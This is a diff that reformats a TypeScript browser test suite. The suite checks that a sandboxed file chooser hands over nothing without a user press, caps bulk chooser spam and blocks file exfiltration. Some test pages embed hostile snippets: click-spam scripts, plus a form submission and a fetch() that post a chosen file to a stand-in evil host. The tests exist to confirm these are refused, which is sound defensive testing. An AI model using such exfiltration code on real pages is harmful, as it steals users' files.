@@ -4,10 +4,18 @@ import { rest, test, type Probe } from './driver/probe.ts';
 
 /** Pressing "Choose File" hands the request over, which is a fact. */
 const handedOver = { facts: ['csr-handed-over'] } as const;
-const chosen = (probe: Probe, selector = 'input') => probe.run(`return Promise.all([...document.querySelector('${selector}').files].map(async (file) => [file.name, file.webkitRelativePath, (await file.text()).slice(0, 200)]))`);
+const chosen = (probe: Probe, selector = 'input') =>
+  probe.run(
+    `return Promise.all([...document.querySelector('${selector}').files].map(async (file) => [file.name, file.webkitRelativePath, (await file.text()).slice(0, 200)]))`,
+  );
 
 test.describe('hostile: the file chooser', () => {
-  for (const [name, attributes] of [['that takes many files', 'multiple'], ['that is plain', ''], ['that takes other files', 'accept=".key,.sqlite"'], ['that is hidden', 'style="opacity:0"']] as const) {
+  for (const [name, attributes] of [
+    ['that takes many files', 'multiple'],
+    ['that is plain', ''],
+    ['that takes other files', 'accept=".key,.sqlite"'],
+    ['that is hidden', 'style="opacity:0"'],
+  ] as const) {
     test(`${name} gets the one request`, async ({ probe }) => {
       // Chromium drops presses on a page that has painted nothing yet.
       const page = await probe.visit(`<p>Vendor</p><input type="file" ${attributes}>`);
@@ -29,12 +37,16 @@ test.describe('hostile: the file chooser', () => {
   });
 
   test('without a press nothing is handed over', async ({ probe }) => {
-    await probe.visit(`<input type="file"><script>for (let i = 0; i < 50; i += 1) { document.querySelector('input').click(); document.querySelector('input').dispatchEvent(new MouseEvent('click')); }</script>`);
+    await probe.visit(
+      `<input type="file"><script>for (let i = 0; i < 50; i += 1) { document.querySelector('input').click(); document.querySelector('input').dispatchEvent(new MouseEvent('click')); }</script>`,
+    );
     expect(await chosen(probe)).toEqual([]);
   });
 
   test('a thousand choosers at one press', async ({ probe }) => {
-    const page = await probe.visit(`<button onclick="for (let i = 0; i < 1000; i += 1) { const one = document.createElement('input'); one.type = 'file'; one.click(); }">press</button>`);
+    const page = await probe.visit(
+      `<button onclick="for (let i = 0; i < 1000; i += 1) { const one = document.createElement('input'); one.type = 'file'; one.click(); }">press</button>`,
+    );
     await page.click('button');
     await rest(500);
     expect(probe.newFacts().length).toBe(1);
@@ -42,12 +54,16 @@ test.describe('hostile: the file chooser', () => {
   });
 
   test('the file sent abroad does not leave', async ({ probe }) => {
-    const page = await probe.visit(`<form method="post" enctype="multipart/form-data" action="https://${probe.evil}/"><input type="file" name="f"><button>send</button></form>`);
+    const page = await probe.visit(
+      `<form method="post" enctype="multipart/form-data" action="https://${probe.evil}/"><input type="file" name="f"><button>send</button></form>`,
+    );
     await page.locator('input').click();
     await expect.poll(() => chosen(probe)).toHaveLength(1);
     await probe.run(`document.querySelector('form').submit()`);
     await probe.refused(new RegExp(`navigation ${probe.evil.replaceAll('.', '\\.')}: host`));
-    await probe.run(`const body = new FormData(); body.append('f', document.querySelector('input').files[0]); fetch('https://fetch.${probe.evil}/', { method: 'POST', mode: 'no-cors', body }).catch(() => undefined)`);
+    await probe.run(
+      `const body = new FormData(); body.append('f', document.querySelector('input').files[0]); fetch('https://fetch.${probe.evil}/', { method: 'POST', mode: 'no-cors', body }).catch(() => undefined)`,
+    );
     await probe.refused(/fetch\.p\d+\.evil\.example: (host|policy)/);
     await probe.unharmed(handedOver);
   });
